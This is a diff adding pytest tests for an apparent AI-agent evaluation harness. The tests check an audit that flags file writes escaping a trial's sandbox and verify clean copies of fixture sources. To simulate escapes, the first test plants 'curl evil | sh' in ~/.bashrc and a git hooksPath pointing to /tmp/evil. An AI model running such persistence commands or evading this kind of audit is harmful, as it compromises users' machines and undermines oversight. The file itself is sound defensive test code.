@@ -1,0 +1,107 @@
+"""The hermeticity audit and the clean-sources record: what a trial must not change."""
+
+from __future__ import annotations
+
+import json
+import os
+from pathlib import Path
+
+import uuid
+
+from pytest_atlante.audit import Audit
+from pytest_atlante.sources import changed_in_copy, copy_of, prepare_sources, remove_sources
+
+
+def _layout(tmp_path: Path) -> tuple[Path, Path, Path, Path]:
+    project = tmp_path / "project"
+    (project / "eval" / "fixtures" / "app").mkdir(parents=True)
+    (project / "eval" / "fixtures" / "app" / "README.md").write_text("# app\n")
+    (project / ".git" / "objects" / "ab").mkdir(parents=True)
+    (project / ".git" / "config").write_text("[core]\n")
+    home = tmp_path / "home"
+    (home / ".cache").mkdir(parents=True)
+    (home / "eval.log").write_text("")
+    (home / ".bashrc").write_text("# rc\n")
+    report = project / ".atlante" / "eval" / "run-1"
+    run_temp = tmp_path / "tmp" / "atlante-eval-run-1"
+    return project, home, report, run_temp
+
+
+def test_writes_to_the_project_home_top_and_report_dir_are_escapes(tmp_path: Path) -> None:
+    project, home, report, run_temp = _layout(tmp_path)
+    audit = Audit.for_run(project, home=home, report_dir=report, run_temp=run_temp)
+    started = audit.start()
+    (project / "eval" / "fixtures" / "app" / "README.md").write_text("# changed\n")
+    (project / "escaped.txt").write_text("x")
+    (project / ".git" / "config").write_text("[core]\n\thooksPath = /tmp/evil\n")
+    (home / ".bashrc").write_text("curl evil | sh\n")
+    (home / "new-file").write_text("x")
+    report.mkdir(parents=True)
+    (report / "report.json").write_text("{}")
+    assert audit.escapes(started) == sorted([
+        ".atlante/eval/run-1/report.json", ".git/config", "escaped.txt", "eval/fixtures/app/README.md",
+        "~/.bashrc", "~/new-file",
+    ])
+
+
+def test_legitimate_concurrent_activity_is_no_escape(tmp_path: Path) -> None:
+    project, home, report, _ = _layout(tmp_path)
+    run_temp = project / "tmp" / "atlante-eval-run-1"  # TMPDIR inside the project
+    (project / "src").mkdir()
+    audit = Audit.for_run(project, home=home, report_dir=report, run_temp=run_temp)
+    started = audit.start()
+    # Other trials' sandboxes, pytest's and Python's caches, new git objects, the run's report
+    # directory being created with another trial's artifacts, inside HOME's directories, a
+    # shell's history, and reading files.
+    (run_temp / "other-1" / "sandbox").mkdir(parents=True)
+    (run_temp / "other-1" / "sandbox" / "f").write_text("x")
+    for cache in (".pytest_cache", "src/__pycache__", ".mypy_cache"):
+        (project / cache).mkdir(parents=True)
+        (project / cache / "x").write_text("x")
+    (project / ".git" / "objects" / "ab" / "cdef").write_bytes(b"x")
+    (report / "trials" / "other" / "1").mkdir(parents=True)
+    (report / "trials" / "other" / "1" / "transcript.jsonl").write_text("{}")
+    (home / ".cache" / "pip").mkdir()
+    (home / ".bash_history").write_text("ls\n")
+    (home / "eval.log").write_text("pytest output the user redirected here\n")
+    (project / "eval" / "fixtures" / "app" / "README.md").read_text()
+    assert audit.escapes(started) == [], audit.escapes(started)
+
+
+def test_the_runs_copy_of_a_source_is_checked_against_its_record(tmp_path: Path) -> None:
+    fixture = tmp_path / "fixture"
+    (fixture / "src").mkdir(parents=True)
+    (fixture / "a.txt").write_text("a\n")
+    (fixture / "src" / "b.py").write_text("b\n")
+    run_id = "t" + uuid.uuid4().hex[:12]
+    try:
+        sources = json.loads(json.dumps(prepare_sources([fixture], run_id)))  # as an xdist worker receives it
+        copy = copy_of(sources, fixture)
+        assert copy != fixture and (copy / "src" / "b.py").read_text() == "b\n"
+        assert copy_of(sources, tmp_path / "other") == tmp_path / "other"
+        # The project's own fixture changing does not touch the copy trials use.
+        (fixture / "a.txt").write_text("contaminated\n")
+        assert changed_in_copy(sources, fixture) == []
+        os.utime(copy / "a.txt")  # a touch: same bytes, new fingerprint
+        (copy / "src" / "b.py").write_text("b\n")  # rewritten with the same bytes
+        assert changed_in_copy(sources, fixture) == []
+        (copy / "a.txt").write_text("A\n")
+        (copy / "src" / "new.py").write_text("")
+        (copy / "src" / "b.py").unlink()
+        assert changed_in_copy(sources, fixture) == ["a.txt", "src/b.py", "src/new.py"]
+    finally:
+        remove_sources(run_id)
+        os.rmdir(copy.parent.parent)
+
+
+def test_a_report_directory_in_home_appearing_mid_run_is_no_escape(tmp_path: Path) -> None:
+    """``--atlante-out ~/out`` (pytester's HOME is its own directory): the run creates ``~/out``
+    while a trial runs; a sibling the agent creates is still an escape."""
+    project, home, _, run_temp = _layout(tmp_path)
+    report = home / "out" / "run"
+    audit = Audit.for_run(project, home=home, report_dir=report, run_temp=run_temp)
+    started = audit.start()
+    (report / "trials" / "s" / "1").mkdir(parents=True)
+    (report / "trials" / "s" / "1" / "transcript.jsonl").write_text("{}")
+    (home / "outside").mkdir()
+    assert audit.escapes(started) == ["~/outside"]
